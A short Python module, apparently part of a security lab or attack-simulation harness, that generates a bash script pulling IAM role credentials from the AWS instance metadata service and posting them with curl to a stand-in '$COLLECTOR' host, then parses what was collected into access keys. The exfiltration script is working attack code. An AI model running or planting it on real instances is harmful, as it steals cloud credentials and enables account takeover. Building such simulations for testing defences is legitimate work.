"""Credentials of instances as an attacker gets them: sent out by code that runs there."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

from attacks.collector import Collector
from mayfly_lab.contracts import Keys

_LIFE = timedelta(hours=6)


def sends(path: str, collector: str = "$COLLECTOR") -> str:
    """Bash that sends the credentials which the metadata service serves to the attacker's server.

    `$COLLECTOR` in a queue's bootstrap script is replaced by the server's URL.
    """
    return f"""
imds=http://169.254.169.254/latest
token=$(curl -fsS -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $imds/api/token)
get() {{ curl -fsS -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/$1; }}
role=$(get iam/security-credentials/)
{{ get instance-id; echo; get iam/security-credentials/$role; }} |
  curl -fsS --data-binary @- {collector}/{path}
"""


def taken(collector: Collector, path: str) -> dict[str, Keys]:
    """The credentials that were sent to this path, by instance id; the latest of each."""
    found = {}
    for sent in collector.sent(f"/{path}"):
        instance, _, body = sent.body.partition("\n")
        keys = json.loads(body)
        expires = datetime.now(UTC) + _LIFE
        found[instance] = Keys(keys["AccessKeyId"], keys["SecretAccessKey"], keys["Token"], expires)
    return found
